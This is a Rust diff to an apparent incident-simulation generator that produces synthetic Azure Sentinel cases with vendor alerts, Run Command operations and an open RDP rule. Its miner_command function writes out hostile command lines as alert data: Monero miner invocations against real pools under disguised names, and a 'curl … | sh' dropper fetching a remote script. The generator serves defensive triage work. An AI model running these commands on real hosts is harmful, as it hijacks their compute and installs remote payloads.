@@ -137,6 +137,20 @@ pub struct CaseSpec {
     /// The incident's first activity (ticks).
     #[serde(skip)]
     pub t0: i64,
+    /// The alert that raised the incident, when chosen rather than drawn from the seed.
+    #[serde(skip)]
+    pub alert: Option<AlertChoice>,
+}
+
+/// An alert a test chooses for its case.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum AlertChoice {
+    /// Defender for Cloud's "digital currency mining" detection on a throttled miner (its CPU 20 points over
+    /// the host's own load), with or without the miner's process entity.
+    DefenderMining { command_line: bool },
+    /// Defender for Resource Manager's "suspicious Run Command" on the same throttled miner: it says nothing
+    /// about mining.
+    DefenderRunCommand,
 }
 
 impl CaseSpec {
@@ -531,6 +545,8 @@ pub fn build(spec: &CaseSpec, cast: Option<&Cast>, incident_name: &str, incident
     let perf_name = if spec.has(Confounder::Fqdn) { format!("{}.contoso.local", n.host) } else { n.host.clone() };
     // A miner is found within its first hour (a spike, never hours of it) or after a night of it: minutes it
     // ran before the alert.
+    let trig = trigger(spec, cast);
+    let throttled = trig.throttled_miner;
     let crypto_lead = if b.rng.chance(0.4) { b.rng.int(30, 60) } else { b.rng.int(180, 480) };
     let load_hours = b.rng.int(1, 3);
     let spike_level = b.rng.range(70.0, 90.0);
@@ -567,10 +583,16 @@ pub fn build(spec: &CaseSpec, cast: Option<&Cast>, incident_name: &str, incident
                 if spec.has(Confounder::NightlyBatch) && (1..3).contains(&hour) {
                     cpu = 86.0 + b.rng.noise(4.0);
                 }
+                // The batch is started on the host by its automation account's Run Command, every night.
+                if spec.has(Confounder::NightlyBatch) && hour == 1 && b.clock(m - 15).0 == 0 && m < end {
+                    b.op(m, BATCH_AUTOMATION, "20.38.98.7", "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", &rid, json!({}));
+                }
                 if spec.has(Confounder::WeeklyBatch) && dow == 0 && (1..4).contains(&hour) {
                     cpu = 91.0 + b.rng.noise(3.0);
                 }
                 match spec.story {
+                    // A throttled miner (`--max-cpu-usage`) adds its share to the host's own load.
+                    Story::Cryptojacking if m >= -crypto_lead && throttled => cpu += 20.0 + b.rng.noise(2.0),
                     Story::Cryptojacking if m >= -crypto_lead => cpu = 97.0 + b.rng.noise(1.0),
                     Story::BenignLoad
                         if !spec.has(Confounder::NightlyBatch)
@@ -653,6 +675,22 @@ pub fn build(spec: &CaseSpec, cast: Option<&Cast>, incident_name: &str, incident
         Story::Cryptojacking => {
             // An intruder creates GPU machines, or runs the miner on the host it found (no control-plane trace):
             // either way, with or without a visible entry.
+            if trig.code_on_host {
+                // The miner is dropped through the control plane: Run Command or the Custom Script extension.
+                let op = if spec.seed.is_multiple_of(2) {
+                    "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION"
+                } else {
+                    "MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE"
+                };
+                b.op(
+                    -crypto_lead - 5,
+                    &actor,
+                    &actor_ip,
+                    op,
+                    &format!("{host_rid}{}", if op.contains("EXTENSIONS") { "/extensions/CustomScript" } else { "" }),
+                    json!({}),
+                );
+            }
             if b.rng.chance(0.5) {
                 let vm = resource_id("Microsoft.Compute/virtualMachines", &format!("gpu-{}", b.rng.int(10, 99)));
                 b.op(-crypto_lead - 20, &actor, &actor_ip, "MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE", &vm, gpu.clone());
@@ -681,7 +719,9 @@ pub fn build(spec: &CaseSpec, cast: Option<&Cast>, incident_name: &str, incident
                     &actor_ip,
                     "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE",
                     &resource_id("Microsoft.Network/networkSecurityGroups", "web-nsg/securityRules/allow-any-3389"),
-                    json!({}),
+                    // AzureActivity records the request: RDP from anywhere.
+                    json!({"requestbody": json!({"properties": {"access": "Allow", "direction": "Inbound", "priority": 100, "protocol": "Tcp",
+                        "sourceAddressPrefix": "*", "destinationPortRange": "3389", "destinationAddressPrefix": "*"}}).to_string()}),
                 );
             }
             if which != 0 {
@@ -705,6 +745,10 @@ pub fn build(spec: &CaseSpec, cast: Option<&Cast>, incident_name: &str, incident
             }
         }
         Story::BenignLoad => {
+            // The host's admin looks into the load with Run Command, from where they always work.
+            if trig.admin_run_command {
+                b.op(10, &upn, &home_ip(0), "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", &host_rid, json!({}));
+            }
             if !spec.has(Confounder::NightlyBatch) && !spec.has(Confounder::WeeklyBatch) && !spec.has(Confounder::MonthEndBackup) {
                 // The tier scales for the load: autoscale acting on the host's own resource (the reason an analyst
                 // reads on the host), or the pipeline scaling the web tier's scale set, which no entity names.
@@ -720,7 +764,7 @@ pub fn build(spec: &CaseSpec, cast: Option<&Cast>, incident_name: &str, incident
 
     // --- The alert and the incident. ---
     let mut entities: Vec<Value> = Vec::new();
-    let (alert_name, severity) = alert_title(spec);
+    let (alert_name, severity) = (trig.name, trig.severity);
     if !spec.has(Confounder::NoEntities) {
         if spec.has(Confounder::Unmatched) {
             entities.push(json!({"$id": "2", "Type": "account", "Name": format!("svc-{}", n.user.replace('.', "")), "UPNSuffix": "contoso.com"}));
@@ -739,6 +783,7 @@ pub fn build(spec: &CaseSpec, cast: Option<&Cast>, incident_name: &str, incident
             if storage_story || spec.story == Story::Exfiltration {
                 entities.push(json!({"$id": "6", "Type": "azure-resource", "ResourceId": storage_rid}));
             }
+            entities.extend(trig.artefacts.iter().cloned());
         }
     }
     let alert_id = uuid::Uuid::new_v5(&uuid::Uuid::NAMESPACE_URL, format!("sentinel-bridge:case-alert:{incident_name}").as_bytes()).to_string();
@@ -747,10 +792,18 @@ pub fn build(spec: &CaseSpec, cast: Option<&Cast>, incident_name: &str, incident
     if !spec.has(Confounder::NoEntities) {
         b.alerts.push(
             json!({"TimeGenerated": b.at(5), "SystemAlertId": alert_id, "DisplayName": alert_name, "AlertName": alert_name, "AlertSeverity": severity,
-            "ProductName": "Azure Sentinel", "ProviderName": "ASI Scheduled Alerts", "Status": "New", "StartTime": b.at(0), "EndTime": b.at(30),
-            "Tactics": "Impact", "Entities": Value::Array(entities).to_string(), "CompromisedEntity": n.host}),
+            "ProductName": trig.product, "ProviderName": trig.provider, "AlertType": trig.alert_type, "Status": "New", "StartTime": b.at(0), "EndTime": b.at(30),
+            "Tactics": trig.tactics, "Techniques": trig.techniques, "Entities": Value::Array(entities.clone()).to_string(), "CompromisedEntity": n.host}),
         );
         alert_ids.push(alert_id);
+        if let Some((name, product, alert_type, tactics, techniques)) = trig.entry_alert {
+            let id = uuid_of(&format!("entry-alert:{incident_name}"));
+            let account: Vec<Value> = entities.iter().filter(|e| e["Type"] == "account" || e["Type"] == "ip").cloned().collect();
+            b.alerts.push(json!({"TimeGenerated": b.at(-10), "SystemAlertId": id, "DisplayName": name, "AlertName": name, "AlertSeverity": "Medium",
+                "ProductName": product, "ProviderName": "IPC", "AlertType": alert_type, "Status": "New", "StartTime": b.at(-40), "EndTime": b.at(-15),
+                "Tactics": tactics, "Techniques": techniques, "Entities": Value::Array(account).to_string()}));
+            alert_ids.push(id);
+        }
     }
     if spec.has(Confounder::Neighbour) {
         // The colleague's own alert, in the same window, naming the names that contain ours.
@@ -788,14 +841,187 @@ fn capitalise(s: &str) -> String {
         .join(".")
 }
 
-fn alert_title(spec: &CaseSpec) -> (&'static str, &'static str) {
-    match spec.story {
-        Story::Cryptojacking => ("High CPU on a production VM", "Medium"),
-        Story::BenignLoad if spec.has(Confounder::MonthEndBackup) => ("Unusual outbound data volume", "Medium"),
-        Story::BenignLoad => ("High CPU on a production VM", "Low"),
-        Story::CredentialCompromise => ("Suspicious sign-in properties", "High"),
-        Story::Exfiltration => ("Unusual outbound data volume", "Medium"),
-        Story::ConfigDrift => ("Network security group or role changed", "Medium"),
-        Story::Quiet => ("Suspicious sign-in properties", "Low"),
+/// The automation account that starts the nightly batch.
+const BATCH_AUTOMATION: &str = "aa-batch-ops";
+
+/// The alert that raised the incident, as the source that fired it writes it: a detection product's
+/// classification (with its artefacts), or the customer's own scheduled rule (its MITRE tags the rule's, not
+/// this firing's). Benign stories get vendors' false positives too (an "unusual amount of data" on a month-end
+/// backup, an unfamiliar sign-in that is a traveller), so a fit learns what each source is worth.
+struct Trigger {
+    name: &'static str,
+    severity: &'static str,
+    product: &'static str,
+    provider: &'static str,
+    alert_type: String,
+    tactics: &'static str,
+    techniques: &'static str,
+    /// Entities beyond the account, host, IP and resource: a process, a file.
+    artefacts: Vec<Value>,
+    /// The miner is throttled: its CPU adds 20 points to the host's own load instead of pinning it. Behavioural
+    /// detections catch these more often than CPU rules do.
+    throttled_miner: bool,
+    /// The miner was dropped on the host through the control plane (Run Command, an extension).
+    code_on_host: bool,
+    /// The host's admin ran a Run Command during a benign load, looking into it.
+    admin_run_command: bool,
+    /// A second alert of the incident, from the entry point's detection: (name, product, type, tactics, techniques).
+    entry_alert: Option<(&'static str, &'static str, &'static str, &'static str, &'static str)>,
+}
+
+const RULE: (&str, &str) = ("Azure Sentinel", "ASI Scheduled Alerts");
+const DEFENDER: (&str, &str) = ("Azure Security Center", "Azure Security Center");
+const ID_PROTECTION: (&str, &str) = ("Azure Active Directory Identity Protection", "IPC");
+
+fn miner_command(rng: &mut Rng) -> String {
+    let pool = match rng.int(0, 3) {
+        0 => "pool.supportxmr.com".to_string(),
+        1 => "xmr.2miners.com".to_string(),
+        2 => "gulf.moneroocean.stream".to_string(),
+        _ => format!("n{}.example", rng.int(100, 999)),
+    };
+    match rng.int(0, 4) {
+        0 => format!("/tmp/.cache/kswapd0 -o {pool}:443 --tls -k --max-cpu-usage 95"),
+        1 => format!("./xmrig -o stratum+tcp://{pool}:3333 -u 4{} -p x", rng.int(100_000, 999_999)),
+        2 => format!("/var/tmp/.x/sysupdate --donate-level 1 -o {pool}:5555"),
+        3 => "/dev/shm/kdevtmpfsi".to_string(),
+        // A dropper whose command line names nothing a vocabulary knows.
+        _ => format!("bash -c 'curl -fsSL http://203.0.113.{}/ldr.sh | sh'", rng.int(2, 250)),
     }
+}
+
+fn trigger(spec: &CaseSpec, cast: Option<&Cast>) -> Trigger {
+    // Its own stream, so the rest of the world draws what it drew before.
+    let mut rng = Rng::new(spec.seed.wrapping_mul(131).wrapping_add(17));
+    // The demo and tests' cast: the scheduled rule, always tagged, so their comments stay as they are.
+    let u = if cast.is_some() { 1.0 } else { rng.unit() };
+    let tag = |rng: &mut Rng, t: &'static str| if cast.is_some() || rng.chance(0.5) { t } else { "" };
+    let rule = |name, severity, tactics, techniques| Trigger {
+        name,
+        severity,
+        product: RULE.0,
+        provider: RULE.1,
+        alert_type: String::new(),
+        tactics,
+        techniques,
+        artefacts: Vec::new(),
+        throttled_miner: false,
+        code_on_host: false,
+        admin_run_command: false,
+        entry_alert: None,
+    };
+    let vendor = |(product, provider): (&'static str, &'static str), name, severity, alert_type: &str, tactics, techniques| Trigger {
+        name,
+        severity,
+        product,
+        provider,
+        alert_type: alert_type.to_string(),
+        tactics,
+        techniques,
+        artefacts: Vec::new(),
+        throttled_miner: false,
+        code_on_host: false,
+        admin_run_command: false,
+        entry_alert: None,
+    };
+    if let Some(choice) = spec.alert {
+        let mut t = match choice {
+            AlertChoice::DefenderMining { .. } => {
+                vendor(DEFENDER, "Digital currency mining related behavior detected", "High", "VM_DigitalCurrencyMining", "Impact", "T1496")
+            }
+            AlertChoice::DefenderRunCommand => {
+                vendor(DEFENDER, "Suspicious Run Command usage was detected", "Medium", "ARM_RunCommandSuspiciousScript", "Execution", "T1651")
+            }
+        };
+        t.throttled_miner = true;
+        t.code_on_host = true;
+        if choice == (AlertChoice::DefenderMining { command_line: true }) {
+            t.artefacts.push(json!({"$id": "7", "Type": "process", "ProcessId": "4242", "CommandLine": "/tmp/.cache/kswapd0 -o n512.example:443 --tls -k --max-cpu-usage 40"}));
+        }
+        return t;
+    }
+    let mut t = match spec.story {
+        Story::Cryptojacking if u < 0.3 => {
+            let mut t = vendor(DEFENDER, "Digital currency mining related behavior detected", "High", "VM_DigitalCurrencyMining", "Impact", "T1496");
+            t.throttled_miner = rng.chance(0.5);
+            if rng.chance(0.7) {
+                t.artefacts.push(json!({"$id": "7", "Type": "process", "ProcessId": rng.int(2000, 60000).to_string(), "CommandLine": miner_command(&mut rng)}));
+            }
+            t
+        }
+        Story::Cryptojacking if u < 0.45 => {
+            vendor(DEFENDER, "Suspicious Run Command usage was detected", "Medium", "ARM_RunCommandSuspiciousScript", "Execution", "T1651")
+        }
+        Story::Cryptojacking => {
+            let techniques = tag(&mut rng, "T1496");
+            // A CPU rule fires at its threshold: never on a throttled miner.
+            rule("High CPU on a production VM", "Medium", "Impact", techniques)
+        }
+        Story::BenignLoad if spec.has(Confounder::MonthEndBackup) && u < 0.35 => vendor(
+            DEFENDER,
+            "Unusual amount of data extracted from a storage account",
+            "Medium",
+            "Storage.Blob_DataExfiltration.AmountOfDataAnomaly",
+            "Exfiltration",
+            "T1537",
+        ),
+        Story::BenignLoad if spec.has(Confounder::MonthEndBackup) => {
+            let techniques = tag(&mut rng, "T1048");
+            rule("Unusual outbound data volume", "Medium", "Exfiltration", techniques)
+        }
+        Story::BenignLoad => {
+            let techniques = tag(&mut rng, "T1496");
+            let mut t = rule("High CPU on a production VM", "Low", "Impact", techniques);
+            if cast.is_none() && rng.chance(0.2) {
+                let job = *rng.pick(&[
+                    "python3 /opt/etl/nightly.py --rows 5000000",
+                    "java -Xmx8g -jar /srv/batch/reports.jar",
+                    "dotnet Billing.Worker.dll --month-end",
+                ]);
+                t.artefacts.push(json!({"$id": "7", "Type": "process", "ProcessId": rng.int(2000, 60000).to_string(), "CommandLine": job}));
+            }
+            t
+        }
+        Story::Exfiltration if u < 0.35 => vendor(
+            DEFENDER,
+            "Unusual amount of data extracted from a storage account",
+            "Medium",
+            "Storage.Blob_DataExfiltration.AmountOfDataAnomaly",
+            "Exfiltration",
+            "T1537",
+        ),
+        Story::Exfiltration => {
+            let techniques = tag(&mut rng, "T1048");
+            rule("Unusual outbound data volume", "Medium", "Exfiltration", techniques)
+        }
+        Story::CredentialCompromise if u < 0.4 => {
+            vendor(ID_PROTECTION, "Unfamiliar sign-in properties", "High", "UnfamiliarLocation", "InitialAccess", "T1078")
+        }
+        Story::CredentialCompromise => {
+            let techniques = tag(&mut rng, "T1078");
+            rule("Suspicious sign-in properties", "High", "InitialAccess", techniques)
+        }
+        // The noisy change rule fires on the routine change too.
+        Story::Quiet if spec.has(Confounder::RoutineChange) => {
+            let techniques = tag(&mut rng, "T1098,T1562");
+            rule("Network security group or role changed", "Low", "Persistence,DefenseEvasion", techniques)
+        }
+        // Identity Protection's false positives: a user signing in from somewhere unusual for a good reason.
+        Story::Quiet if u < 0.3 => vendor(ID_PROTECTION, "Unfamiliar sign-in properties", "Low", "UnfamiliarLocation", "InitialAccess", "T1078"),
+        Story::Quiet => {
+            let techniques = tag(&mut rng, "T1078");
+            rule("Suspicious sign-in properties", "Low", "InitialAccess", techniques)
+        }
+        Story::ConfigDrift => {
+            let techniques = tag(&mut rng, "T1098,T1562");
+            rule("Network security group or role changed", "Medium", "Persistence,DefenseEvasion", techniques)
+        }
+    };
+    t.code_on_host = spec.story == Story::Cryptojacking && (cast.is_some() || rng.chance(0.5));
+    t.admin_run_command = spec.story == Story::BenignLoad && cast.is_none() && rng.chance(0.2);
+    // An entry point's own detection, sometimes in the same incident.
+    if cast.is_none() && matches!(spec.story, Story::Cryptojacking | Story::Exfiltration | Story::ConfigDrift) && spec.entry != Entry::None && rng.chance(0.3) {
+        t.entry_alert = Some(("Unfamiliar sign-in properties", ID_PROTECTION.0, "UnfamiliarLocation", "InitialAccess", "T1078"));
+    }
+    t
 }
